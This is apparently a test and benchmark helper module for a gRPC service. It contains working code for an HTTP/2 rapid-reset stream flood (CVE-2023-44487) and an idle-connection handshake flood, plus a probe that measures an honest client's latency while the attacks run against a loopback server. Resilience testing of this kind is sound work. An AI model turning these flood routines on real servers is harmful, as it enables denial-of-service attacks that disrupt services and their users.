"""Transport-level attackers of the analyst's mutual-TLS port (issue 22): an HTTP/2 stream-reset
flood (CVE-2023-44487, "rapid reset") and connections that never finish their TLS handshake.

Shared by ``benchmarks/bench_flood.py`` (the issue's size) and the e2e tests (small): both
measure an honest participant's Status latency while an attacker runs.

:func:`rapid_reset` speaks raw HTTP/2 (the ``h2`` library over ``ssl`` with a client
certificate): gRPC's own clients never open a stream and cancel it in the same write, and an
attacker does. Each stream is a complete gRPC Status request (HEADERS, one DATA frame with the
message, end of stream) followed at once by RST_STREAM(CANCEL), so the server receives, matches
and cancels a whole call for every stream, the costliest form for it. Streams go out in writes
of ``batch``; the attacker reads what the server sends between writes (SETTINGS, refusals,
GOAWAY) and, when the server closes the connection, opens a new one and goes on: the flood is a
count of streams sent, whatever the server does about it.

:func:`handshake_flood` opens TCP connections and sends nothing (or completes TLS with a
client certificate, then sends nothing), from any loopback source address, holding them until
the server closes them or the hold time ends (reopening each one closed, if asked); it reports
how long the server kept each.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

#: The gRPC method each flooded stream calls, and its request (an empty StatusRequest is
#: enough: the caller check comes first).
STATUS_PATH = "/noisyanchor.v1.Analyst/Status"


@dataclass
class FloodReport:
    """What one flood did and what the server answered."""

    streams_sent: int = 0
    connections: int = 0
    goaways: int = 0
    refused_streams: int = 0
    seconds: float = 0.0
    errors: list[str] = field(default_factory=list)

    def to_json(self) -> dict:
        """The counts, for a result file."""
        return {"streams_sent": self.streams_sent, "connections": self.connections,
                "goaways": self.goaways, "refused_streams": self.refused_streams,
                "seconds": self.seconds, "errors": self.errors[:5]}


def _grpc_message(payload: bytes) -> bytes:
    """A length-prefixed gRPC message (uncompressed)."""
    return b"\0" + struct.pack(">I", len(payload)) + payload


def _tls_socket(host: str, port: int, ca: Path, cert: Path, key: Path,
                server_name: str, source: str | None = None) -> ssl.SSLSocket:
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(ca))
    ctx.load_cert_chain(str(cert), str(key))
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10.0,
                                   source_address=(source, 0) if source else None)
    return ctx.wrap_socket(raw, server_hostname=server_name)


class _StreamFrames:
    """The frames of one flooded stream, serialized once (``hyperframe``) with stream id 1 and
    patched per stream: the header block is HPACK never-indexed literals, which reference no
    dynamic table, so every stream can carry the same bytes."""

    def __init__(self, authority: str, path: str, message: bytes | None) -> None:
        from hpack import Encoder, NeverIndexedHeaderTuple
        from hyperframe.frame import DataFrame, HeadersFrame, RstStreamFrame

        block = Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in (
            (":method", "POST"), (":scheme", "https"), (":path", path),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers"))])
        self.open = HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
        if message is not None:
            self.open += DataFrame(1, data=message, flags=["END_STREAM"]).serialize()
        self.reset = RstStreamFrame(1, error_code=0x8).serialize()  # CANCEL
        self._offsets = [k for k in range(len(self.open)) if self._is_header(self.open, k)]

    @staticmethod
    def _is_header(data: bytes, k: int) -> bool:
        return k == 0 or k == 9 + struct.unpack(">I", b"\0" + data[:3])[0]

    def opened(self, sid: int) -> bytes:
        """HEADERS (and DATA) of stream ``sid``."""
        out = bytearray(self.open)
        for k in self._offsets:
            struct.pack_into(">I", out, k + 5, sid)
        return bytes(out)

    def cancelled(self, sid: int) -> bytes:
        """RST_STREAM(CANCEL) of stream ``sid``."""
        out = bytearray(self.reset)
        struct.pack_into(">I", out, 5, sid)
        return bytes(out)


#: The HTTP/2 client preface and an empty SETTINGS frame.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
#: A SETTINGS frame with the ACK flag: the answer an idle client owes the server's SETTINGS.
_SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"


class _Connection:
    """One attacker connection: the HTTP/2 preface, then raw frames; the server's SETTINGS and
    PINGs are acknowledged, its RST_STREAM and GOAWAY frames counted."""

    def __init__(self, host: str, port: int, tls: tuple[Path, Path, Path], server_name: str,
                 report: FloodReport, source: str | None = None) -> None:

        self.sock = _tls_socket(host, port, *tls, server_name, source)
        self.sock.setblocking(False)
        self.report = report
        self.closed = False
        self.next_sid = 1
        self._inbox = bytearray()
        self.send(_PREFACE)

    def send(self, data: bytes) -> None:
        """Write ``data`` whole, reading the server's frames whenever the socket is full."""
        view = memoryview(data)
        while view and not self.closed:
            try:
                view = view[self.sock.send(view):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                self.pump(0.005)
            except OSError:
                self.closed = True

    def pump(self, wait: float) -> None:
        """Read and answer what the server sent."""
        from hyperframe.frame import PingFrame, SettingsFrame

        if not self.sock.pending():
            with selectors.DefaultSelector() as sel:
                sel.register(self.sock, selectors.EVENT_READ)
                if not sel.select(wait):
                    return
        while not self.closed:
            try:
                data = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            self._inbox += data
        replies = b""
        while len(self._inbox) >= 9:
            length = struct.unpack(">I", b"\0" + self._inbox[:3])[0]
            if len(self._inbox) < 9 + length:
                break
            kind, flags = self._inbox[3], self._inbox[4]
            payload = bytes(self._inbox[9:9 + length])
            del self._inbox[:9 + length]
            if kind == 0x4 and not flags & 0x1:  # SETTINGS: acknowledge
                replies += SettingsFrame(0, flags=["ACK"]).serialize()
            elif kind == 0x6 and not flags & 0x1:  # PING: answer
                replies += PingFrame(0, opaque_data=payload, flags=["ACK"]).serialize()
            elif kind == 0x3:
                self.report.refused_streams += 1
            elif kind == 0x7:
                self.report.goaways += 1
                self.closed = True
        if replies and not self.closed:
            self.send(replies)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(host: str, port: int, tls: tuple[Path, Path, Path], server_name: str,
                streams: int, *, path: str = STATUS_PATH, request: bytes = b"",
                batch: int = 100, with_message: bool = True, reset_after: float = 0.0,
                connections: int = 1, timeout: float = 120.0, reset: bool = True,
                source: str | None = None) -> FloodReport:
    """Open and cancel ``streams`` gRPC calls on as few connections as the server allows
    (or, with ``reset=False``, open them and never wait for their answers).

    Parameters
    ----------
    host, port : str, int
        The analyst's mutual-TLS address (loopback).
    tls : (ca, cert, key)
        The attacker's files: the federation CA and a client certificate it signed.
    server_name : str
        Name the analyst's certificate is checked against.
    streams : int
        Streams to open and cancel in all.
    path, request : str, bytes
        The gRPC method called on each stream and its serialized request message.
    batch : int
        Streams per write.
    with_message : bool
        Send the request message (and the end of the stream) before the reset; False: HEADERS
        then RST_STREAM only.
    connections : int
        Connections the batches go out on in turn (each is reopened when the server closes
        it).
    reset_after : float
        Seconds between sending a batch's streams and their resets (0: in the same write), so
        the server can hand the calls to the application before they are cancelled.
    timeout : float
        Seconds the flood may take at most (it stops early then; see ``streams_sent``).
    reset : bool
        Reset each stream; False: leave it to the server, whose answers are read and dropped
        (calls sent as fast as the connections take them: the pending-call queue's flood).
    source : str, optional
        Loopback address the connections come from (127.0.0.2, ...).
    """
    report = FloodReport()
    frames = _StreamFrames(f"{server_name}:{port}", path,
                           _grpc_message(request) if with_message else None)
    start = time.monotonic()
    conns: list[_Connection | None] = [None] * connections
    try:
        turn = 0
        while report.streams_sent < streams and time.monotonic() - start < timeout:
            turn = (turn + 1) % connections
            conn = conns[turn]
            if conn is None or conn.closed or conn.next_sid > 0x7FFFFFFF - 2 * batch:
                if conn is not None:
                    conn.close()
                try:
                    conn = conns[turn] = _Connection(host, port, tls, server_name, report,
                                                     source)
                except OSError as err:
                    report.errors.append(f"connect: {err}")
                    conns[turn] = None
                    time.sleep(0.05)
                    continue
                report.connections += 1
            count = min(batch, streams - report.streams_sent)
            sids = range(conn.next_sid, conn.next_sid + 2 * count, 2)
            conn.next_sid += 2 * count
            if not reset:
                conn.send(b"".join(frames.opened(s) for s in sids))
            elif reset_after:
                conn.send(b"".join(frames.opened(s) for s in sids))
                time.sleep(reset_after)
                conn.send(b"".join(frames.cancelled(s) for s in sids))
            else:
                conn.send(b"".join(frames.opened(s) + frames.cancelled(s) for s in sids))
            report.streams_sent += count
            conn.pump(0.0)
    finally:
        for conn in conns:
            if conn is not None:
                conn.pump(0.05)
                conn.close()
    report.seconds = time.monotonic() - start
    return report


@dataclass
class HandshakeReport:
    """How long the server held connections that sent nothing (before or after TLS)."""

    connections: int
    opened: int
    held_seconds: list[float]
    still_open: int
    refused: int = 0

    def to_json(self) -> dict:
        """The counts and hold times, for a result file."""
        held = sorted(self.held_seconds)
        return {"connections": self.connections, "opened": self.opened,
                "refused_at_connect": self.refused,
                "closed_by_server": len(held), "still_open_at_end": self.still_open,
                "median_held_s": held[len(held) // 2] if held else None,
                "max_held_s": held[-1] if held else None}


def _idle_socket(host: str, port: int, tls: tuple[Path, Path, Path] | None, server_name: str,
                 source: str | None) -> socket.socket:
    """A connection from ``source`` (any loopback address: 127.0.0.2, ...) that has done
    nothing, or, when ``tls`` is given, its TLS handshake and the HTTP/2 preface with empty
    SETTINGS: an established gRPC connection that never calls (gRPC's handshake timeout
    does not close it)."""
    raw = socket.create_connection((host, port), timeout=5.0,
                                   source_address=(source, 0) if source else None)
    if tls is None:
        return raw
    ca, cert, key = tls
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(ca))
    ctx.load_cert_chain(str(cert), str(key))
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(raw, server_hostname=server_name)
    sock.sendall(_PREFACE)
    return sock


def handshake_flood(host: str, port: int, connections: int, *, hold: float,
                    stop: threading.Event | None = None,
                    tls: tuple[Path, Path, Path] | None = None, server_name: str = "localhost",
                    source: str | None = None, reopen: bool = False,
                    opened: threading.Event | None = None) -> HandshakeReport:
    """Open ``connections`` connections that send nothing (not even a TLS handshake; with
    ``tls``: a complete handshake with that client certificate, then nothing), from ``source``,
    and wait up to ``hold`` seconds (or until ``stop`` is set) for the server to close each
    one, opening a new one for each closed when ``reopen``; ``opened`` is set once every
    connection was tried; every socket is closed on return."""
    socks: list[socket.socket] = []
    opened_at: dict[socket.socket, float] = {}
    held: list[float] = []
    refused = 0
    acked: set[socket.socket] = set()
    sel = selectors.DefaultSelector()

    def open_one() -> None:
        nonlocal refused
        try:
            s = _idle_socket(host, port, tls, server_name, source)
        except OSError:  # ssl.SSLError included: closed at accept or in the handshake
            refused += 1
            return
        s.setblocking(False)
        socks.append(s)
        opened_at[s] = time.monotonic()
        sel.register(s, selectors.EVENT_READ)

    try:
        for _ in range(connections):
            open_one()
        if opened is not None:
            opened.set()
        end = time.monotonic() + hold
        while opened_at and time.monotonic() < end and not (stop and stop.is_set()):
            for key, _ in sel.select(min(0.2, max(0.0, end - time.monotonic()))):
                s = key.fileobj
                try:
                    data = s.recv(4096)
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
                except OSError:
                    data = b""
                if not data:
                    held.append(time.monotonic() - opened_at.pop(s))
                    sel.unregister(s)
                    if reopen:
                        open_one()
                elif tls is not None and s not in acked:  # the server's SETTINGS, once
                    acked.add(s)
                    with contextlib.suppress(OSError):  # closing already: seen next round
                        s.sendall(_SETTINGS_ACK)
        return HandshakeReport(connections, len(socks), held, len(opened_at), refused)
    finally:
        sel.close()
        for s in socks:
            s.close()


class StatusProbe:
    """An honest participant calling Status (or ``call``) every ``interval`` seconds on its own
    connection while something else runs (a context manager); latencies and errors as they
    came.

    Parameters
    ----------
    client : AnalystClient
        The honest participant's client (its channel is used as is).
    federation_id : str
    interval : float
        Seconds between the end of one call and the start of the next.
    call : callable, optional
        What one probe does instead of Status (raising ``grpc.RpcError`` on a refusal), e.g.
        a FetchSiteModel, or a Status on a new connection.
    timeout : float
        Deadline of each Status call, seconds.
    """

    def __init__(self, client, federation_id: str, interval: float = 0.05,
                 call: Callable[[], object] | None = None, timeout: float = 10.0) -> None:
        self.client = client
        self.federation_id = federation_id
        self.interval = interval
        self.timeout = timeout
        self.call = call or self._status
        self.samples: list[tuple[float, float]] = []  # (start, seconds)
        self.errors: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="status-probe", daemon=True)
        self._t0 = time.monotonic()

    def _status(self) -> object:
        from noisyanchor.protos.v1 import analyst_pb2 as pb

        return self.client.stub.Status(pb.StatusRequest(federation_id=self.federation_id),
                                       timeout=self.timeout)

    def _run(self) -> None:
        import grpc

        from noisyanchor.common.errors import NoisyAnchorError

        while not self._stop.is_set():
            start = time.monotonic()
            try:
                self.call()
            except grpc.RpcError as err:
                self.errors.append(f"{err.code().name}: {err.details()}")
            except NoisyAnchorError as err:  # the client's own retries gave up
                self.errors.append(f"{type(err).__name__}: {err}")
            self.samples.append((start - self._t0, time.monotonic() - start))
            self._stop.wait(self.interval)

    def __enter__(self) -> StatusProbe:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(15)

    def between(self, start: float, end: float) -> list[float]:
        """Latencies of the calls that started between ``start`` and ``end`` (seconds since
        the probe was made)."""
        return [s for t, s in self.samples if start <= t <= end]

    def now(self) -> float:
        """Seconds since the probe was made (the clock of :meth:`between`)."""
        return time.monotonic() - self._t0


def percentile(values: list[float], q: float) -> float:
    """The ``q``-quantile (0..1) of ``values`` by the nearest rank (NaN when empty)."""
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]
